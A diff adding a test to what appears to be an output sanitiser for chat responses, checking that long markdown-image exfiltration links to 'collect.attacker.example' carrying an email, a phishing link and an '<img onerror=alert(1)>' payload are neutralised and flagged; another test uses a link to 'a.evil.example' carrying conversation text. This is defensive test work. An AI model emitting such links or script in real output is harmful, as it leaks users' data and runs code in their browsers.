@@ -76,6 +76,18 @@ describe.each([false, true])('render transforms (stream: %s)', (stream) => {
     expect(JSON.stringify(res.record?.findings)).not.toContain('alice');
   });
 
+  it('a construct far longer than the hold-back window is still held whole until it completes', async () => {
+    // Words, not one long run: a run of letters is held by the encoded-tail rule on its own.
+    const pad = 'the-quick-brown-fox-'.repeat(15);
+    const url = `https://collect.attacker.example/p.png?u=${EMAIL}&pad=${pad}`;
+    const text = `Intro text before. [![logo](${url})](https://phish.example/${pad}) <img\nsrc=x title="${pad}" onerror=alert(1)> after.`;
+    const res = await ask(chat, text, stream);
+    expect(res.content).toBe(
+      `Intro text before. logo (image: \`${url}\`) (\`https://phish.example/${pad}\`) &lt;img\nsrc=x title="${pad}" onerror=alert(1)&gt; after.`,
+    );
+    expect(res.findings).toContainEqual(expect.objectContaining({ detector: 'exfiltration', type: 'exfiltration_pii' }));
+  });
+
   it('conversation text in a query is an exfiltration finding even when it is not PII', async () => {
     const res = await ask(chat, '![x](https://a.evil.example/c?d=please+summarise+my+account)', stream);
     expect(res.content).not.toContain('![x]');
